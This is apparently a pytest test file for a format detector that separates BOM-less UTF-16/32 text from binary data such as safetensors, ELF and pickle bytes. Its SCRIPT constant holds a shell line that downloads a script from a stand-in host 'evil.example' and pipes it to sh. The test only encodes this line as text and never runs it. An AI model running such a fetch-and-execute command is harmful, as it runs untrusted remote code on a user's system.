"""Text in UTF-16/32 without a byte-order mark is text; binaries never pass for it.

Samples are built here from inert strings and packed numbers; nothing is loaded or run.
"""

from __future__ import annotations

import json
import pickle
import random
import struct

import pytest

from app.core.formats.detect import HEAD_BYTES, Format, detect_format
from app.core.formats.text_encoding import WIDE_ENCODINGS, reading_encoding, text_encoding

SCRIPT = "#!/bin/sh\n# set up the runtime\ncurl -fsSL https://evil.example/i.sh | sh\n" * 40


def _sniff(data: bytes) -> Format:
    return detect_format(data[:HEAD_BYTES], len(data))


@pytest.mark.parametrize("encoding", WIDE_ENCODINGS)
def test_bomless_wide_text_is_text_in_its_encoding(encoding: str) -> None:
    data = SCRIPT.encode(encoding)
    assert _sniff(data) == Format.TEXT
    assert text_encoding(data[:HEAD_BYTES]) == encoding


@pytest.mark.parametrize("encoding", WIDE_ENCODINGS)
@pytest.mark.parametrize("cut", [1, 2, 3])
def test_a_character_cut_by_the_sniff_window_is_still_text(encoding: str, cut: int) -> None:
    head = SCRIPT.encode(encoding)[: HEAD_BYTES - cut]
    assert text_encoding(head) == encoding


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32"])
def test_wide_text_behind_a_byte_order_mark_is_text(encoding: str) -> None:
    data = "Модель: 模型 README\n".encode(encoding) * 10  # a mark allows any script
    assert _sniff(data) == Format.TEXT


def test_mostly_ascii_wide_text_with_some_other_scripts_is_text() -> None:
    data = ("Install (установка): pip install vllm --extra-index-url https://download.pytorch.org\n"
            * 20).encode("utf-16-le")
    assert text_encoding(data[:HEAD_BYTES]) == "utf-16-le"


def test_utf8_text_is_still_utf8() -> None:
    assert text_encoding("naïve café\n".encode()) == "utf-8"
    assert reading_encoding(b"\xff\xfe\x00\xd8") == "utf-16-le"  # a lone surrogate: the mark still says how


def _fp16_weights(count: int) -> bytes:
    rng = random.Random(7)
    return struct.pack(f"<{count}e", *(rng.gauss(0, 0.02) for _ in range(count)))


def _safetensors() -> bytes:
    header = json.dumps({"w": {"dtype": "F16", "shape": [4096], "data_offsets": [0, 8192]}}).encode()
    return struct.pack("<Q", len(header)) + header + _fp16_weights(4096)


BINARIES = {  # name: (bytes, the format they sniff as)
    "safetensors": (_safetensors(), Format.SAFETENSORS),
    "fp16-weights": (_fp16_weights(4096), Format.UNKNOWN),
    "int16-ids": (struct.pack("<2048h", *[i % 1000 for i in range(2048)]), Format.UNKNOWN),
    "int32-ids": (struct.pack("<1024i", *[i % 30000 for i in range(1024)]), Format.UNKNOWN),
    "zeros": (b"\x00" * 8192, Format.UNKNOWN),
    "random": (random.Random(1).randbytes(8192), Format.UNKNOWN),
    "elf": (b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x03\x00\x3e\x00" + b"\x00" * 4000, Format.ELF),
    # A protocol-0 pickle without imports is ASCII: UTF-8 text, walked leniently by the pickle scanner.
    **{f"pickle-{p}": (pickle.dumps({"a": list(range(50)), "b": "text"}, protocol=p),
                       Format.PICKLE if p else Format.TEXT) for p in range(6)},
}


@pytest.mark.parametrize("name", sorted(BINARIES))
def test_binaries_are_not_wide_text(name: str) -> None:
    data, expected = BINARIES[name]
    assert text_encoding(data[:HEAD_BYTES]) not in WIDE_ENCODINGS
    assert _sniff(data) == expected


def test_short_or_sparse_wide_looking_bytes_are_not_text() -> None:
    assert text_encoding(b"a\x00") is None  # one character: as likely a number
    assert text_encoding(("a\x00\x01\x00" * 100).encode("latin-1")) is None  # control characters
